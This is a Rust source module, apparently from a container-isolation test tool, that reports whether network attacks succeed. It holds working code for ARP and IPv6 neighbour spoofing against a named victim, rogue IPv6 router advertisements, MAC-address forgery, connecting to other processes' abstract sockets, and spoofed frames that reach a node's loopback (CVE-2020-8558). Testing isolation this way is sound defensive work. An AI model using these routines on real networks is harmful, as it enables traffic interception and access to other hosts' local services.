//! Sockets: abstract names of other processes, and frames for the node's loopback address (CVE-2020-8558).

use std::fs;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixStream};
use std::time::{Duration, Instant};

use nix::libc;

use super::raw;
use crate::act::number;
use crate::see::Outcome;

/// Tries to connect to all abstract names of /proc/net/unix: prints `saw abstract NAME connected` or the
/// error.
pub(crate) fn sockets() -> Outcome {
    let text = fs::read_to_string("/proc/net/unix").map_err(|error| format!("read: {error}"))?;
    for name in text.lines().filter_map(|line| line.split_whitespace().nth(7)?.strip_prefix('@')) {
        let said =
            SocketAddr::from_abstract_name(name).and_then(|address| UnixStream::connect_addr(&address));
        println!(
            "saw abstract {name} {}",
            said.map_or_else(|error| error.to_string(), |_| "connected".into())
        );
    }
    Ok(0)
}

/// Sends a UDP packet to an address of the node independently of routes: in a frame to the gateway's MAC
/// address. `source` is the packet's source address, `-` the own one.
pub(crate) fn frame(source: &str, address: &str, port: &str, text: &str) -> Outcome {
    let address: Ipv4Addr = address.parse().map_err(|_| format!("{address:?} is no address"))?;
    let port = number(port)? as u16;
    let (link, gateway) = route().ok_or("no default route")?;
    let own = UdpSocket::bind("0.0.0.0:0")
        .and_then(|socket| {
            // So that both sides know each other's MAC address.
            socket.connect((gateway, 9))?;
            socket.send(b"hello")?;
            socket.local_addr()
        })
        .map_err(|error| format!("reach {gateway}: {error}"))?;
    let IpAddr::V4(from) = own.ip() else { return Err("no IPv4".into()) };
    let hardware = neighbour(gateway).ok_or("the gateway has no hardware address")?;
    let index = index(&link)?;
    let from =
        if source == "-" { from } else { source.parse().map_err(|_| format!("{source:?} is no address"))? };
    let packet = packet(from, address, own.port(), port, text.as_bytes());
    match raw::send_packet(libc::ETH_P_IP, index, hardware, &packet) {
        Ok(_) => println!("saw sent to {address}"),
        Err(errno) => println!("held frame: {errno}"),
    }
    Ok(0)
}

pub(super) fn index(link: &str) -> Result<u32, String> {
    let text = fs::read_to_string(format!("/sys/class/net/{link}/ifindex")).ok();
    text.and_then(|text| text.trim().parse().ok()).ok_or_else(|| format!("no link {link}"))
}

/// Says to all neighbours on the link that fe80::bad is their IPv6 router, with the prefix fd00:bad::/64: a router
/// advertisement (RFC 4861, section 4.2).
pub(crate) fn advertise(link: &str) -> Outcome {
    let (from, to) =
        (Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0xbad), Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1));
    const ROUTER_ADVERTISEMENT: u8 = 134;
    // Type, code, checksum, hop limit, flags, lifetime of 1800 s, and two times that are not specified.
    let mut message = vec![ROUTER_ADVERTISEMENT, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
    // Option "prefix information" of 4 * 8 bytes: on the link and for addresses, without an end.
    message.extend([3, 4, 64, 0xc0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]);
    message.extend(Ipv6Addr::new(0xfd00, 0xbad, 0, 0, 0, 0, 0, 0).octets());
    match raw::send_packet(libc::ETH_P_IPV6, index(link)?, ALL_NODES, &icmpv6(from, to, message)) {
        Ok(_) => println!("saw sent"),
        Err(errno) => println!("held advertise: {errno}"),
    }
    Ok(0)
}

/// MAC address of all IPv6 nodes on the link.
pub(super) const ALL_NODES: [u8; 6] = [0x33, 0x33, 0, 0, 0, 1];

/// An IPv6 packet with an ICMPv6 message, whose checksum is computed, and the hop limit 255: it came from no other link.
pub(super) fn icmpv6(from: Ipv6Addr, to: Ipv6Addr, mut message: Vec<u8>) -> Vec<u8> {
    const ICMPV6: u8 = 58;
    let length = message.len() as u16;
    let pseudo =
        [&from.octets()[..], &to.octets(), &[0, 0], &length.to_be_bytes(), &[0, 0, 0, ICMPV6], &message];
    let sum = checksum(&pseudo.concat());
    message[2..4].copy_from_slice(&sum);
    let mut packet = vec![0x60, 0, 0, 0];
    packet.extend(length.to_be_bytes());
    packet.extend([ICMPV6, 255]);
    packet.extend(from.octets());
    packet.extend(to.octets());
    packet.extend(message);
    packet
}

/// Says to all neighbours on the link that an address belongs to the MAC address `mac`, in a frame from the MAC address `from`:
/// by ARP (RFC 826), or by a neighbour advertisement (RFC 4861, section 4.4) and a solicitation of `victim` from the address
/// (section 4.3). `-` stands for the link's own MAC address. The frames have `tags` VLAN tags of VLAN 0, which is none.
pub(crate) fn claim(link: &str, address: &str, mac: &str, from: &str, victim: &str, tags: &str) -> Outcome {
    let [mac, from] = [mac, from].map(|text| if text == "-" { own_mac(link) } else { parse_mac(text) });
    let (mac, from) = (mac?, from?);
    let tags = [0x81, 0, 0, 0].repeat(number(tags)? as usize);
    let frame = |to: [u8; 6], protocol: u16, packet: &[u8]| {
        [&to[..], &from, &tags, &protocol.to_be_bytes(), packet].concat()
    };
    let frames = match address.parse::<IpAddr>().map_err(|_| format!("{address:?} is no address"))? {
        IpAddr::V4(address) => {
            const ALL: [u8; 6] = [0xff; 6];
            /// Ethernet, IPv4, the lengths of their addresses; the operation follows.
            const HEAD: [u8; 6] = [0, 1, 8, 0, 6, 4];
            // A request and an answer: kernels believe either.
            [1, 2].map(|operation| {
                let packet =
                    [&HEAD[..], &[0, operation], &mac, &address.octets(), &ALL, &address.octets()].concat();
                frame(ALL, libc::ETH_P_ARP as u16, &packet)
            })
        }
        IpAddr::V6(address) => {
            let all = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
            // Type, code, checksum; flags: override; the target; the option with the MAC address of the target.
            let advertisement =
                [&[136, 0, 0, 0, 0x20, 0, 0, 0][..], &address.octets(), &[2, 1], &mac].concat();
            let victim: Ipv6Addr = victim.parse().map_err(|_| format!("{victim:?} is no IPv6 address"))?;
            let solicitation = [&[135, 0, 0, 0, 0, 0, 0, 0][..], &victim.octets(), &[1, 1], &mac].concat();
            [advertisement, solicitation]
                .map(|message| frame(ALL_NODES, libc::ETH_P_IPV6 as u16, &icmpv6(address, all, message)))
        }
    };
    for frame in frames {
        match raw::send_frame(index(link)?, &frame) {
            Ok(_) => println!("saw sent"),
            Err(errno) => println!("held claim: {errno}"),
        }
    }
    Ok(0)
}

/// Sends a frame from another MAC address.
pub(crate) fn disguise(link: &str, from: &str, to: &str) -> Outcome {
    /// For experiments (IEEE 802).
    const PROTOCOL: [u8; 2] = [0x88, 0xb5];
    let frame = [&parse_mac(to)?[..], &parse_mac(from)?, &PROTOCOL, &[0; 46]].concat();
    match raw::send_frame(index(link)?, &frame) {
        Ok(_) => println!("saw sent"),
        Err(errno) => println!("held disguise: {errno}"),
    }
    Ok(0)
}

pub(super) fn own_mac(link: &str) -> Result<[u8; 6], String> {
    let text = fs::read_to_string(format!("/sys/class/net/{link}/address"));
    parse_mac(text.map_err(|error| format!("{link}: {error}"))?.trim())
}

pub(super) fn parse_mac(text: &str) -> Result<[u8; 6], String> {
    let bytes: Option<Vec<u8>> = text.split(':').map(|byte| u8::from_str_radix(byte, 16).ok()).collect();
    bytes.and_then(|bytes| bytes.try_into().ok()).ok_or_else(|| format!("{text:?} is no MAC address"))
}

/// Link and gateway of the default route: /proc/net/route, addresses in the machine's byte order.
fn route() -> Option<(String, Ipv4Addr)> {
    let text = fs::read_to_string("/proc/net/route").ok()?;
    text.lines().skip(1).find_map(|line| {
        let mut words = line.split_whitespace();
        let (link, destination, gateway) = (words.next()?, words.next()?, words.next()?);
        let gateway = u32::from_str_radix(gateway, 16).ok()?;
        (destination == "00000000").then(|| (link.to_owned(), Ipv4Addr::from(gateway.to_ne_bytes())))
    })
}

/// The MAC address of a neighbour, if it is known.
pub(super) fn neighbour(address: Ipv4Addr) -> Option<[u8; 6]> {
    let end = Instant::now() + Duration::from_secs(10);
    while Instant::now() < end {
        let text = fs::read_to_string("/proc/net/arp").ok()?;
        let line = text.lines().find(|line| line.split_whitespace().next() == Some(&address.to_string()));
        let found = line.and_then(|line| line.split_whitespace().nth(3));
        let bytes: Vec<u8> =
            found.unwrap_or("").split(':').filter_map(|byte| u8::from_str_radix(byte, 16).ok()).collect();
        if let Ok(bytes) = <[u8; 6]>::try_from(bytes)
            && bytes != [0; 6]
        {
            return Some(bytes);
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    None
}

/// An IPv4 packet with a UDP datagram; the datagram's checksum is omitted, as RFC 768 permits.
fn packet(from: Ipv4Addr, to: Ipv4Addr, from_port: u16, to_port: u16, data: &[u8]) -> Vec<u8> {
    const UDP: u8 = 17;
    const UDP_HEADER: usize = 8;
    let mut datagram =
        [from_port, to_port, (UDP_HEADER + data.len()) as u16, 0].map(u16::to_be_bytes).concat();
    datagram.extend(data);
    ipv4(from, to, UDP, &[], &datagram)
}

/// An IPv4 packet of a protocol. `options` are whole words of four bytes.
pub(super) fn ipv4(from: Ipv4Addr, to: Ipv4Addr, protocol: u8, options: &[u8], data: &[u8]) -> Vec<u8> {
    const HEADER: usize = 20;
    let words = ((HEADER + options.len()) / 4) as u8;
    let length = (HEADER + options.len() + data.len()) as u16;
    let mut packet = vec![0x40 | words, 0];
    packet.extend(length.to_be_bytes());
    packet.extend([0, 1, 0, 0, 64, protocol, 0, 0]);
    packet.extend(from.octets());
    packet.extend(to.octets());
    packet.extend(options);
    let sum = checksum(&packet);
    packet[10..12].copy_from_slice(&sum);
    packet.extend(data);
    packet
}

/// The Internet checksum (RFC 1071) of an even number of bytes.
pub(super) fn checksum(bytes: &[u8]) -> [u8; 2] {
    let sum: u32 = bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum();
    let sum = (sum & 0xffff) + (sum >> 16);
    (!(((sum & 0xffff) + (sum >> 16)) as u16)).to_be_bytes()
}
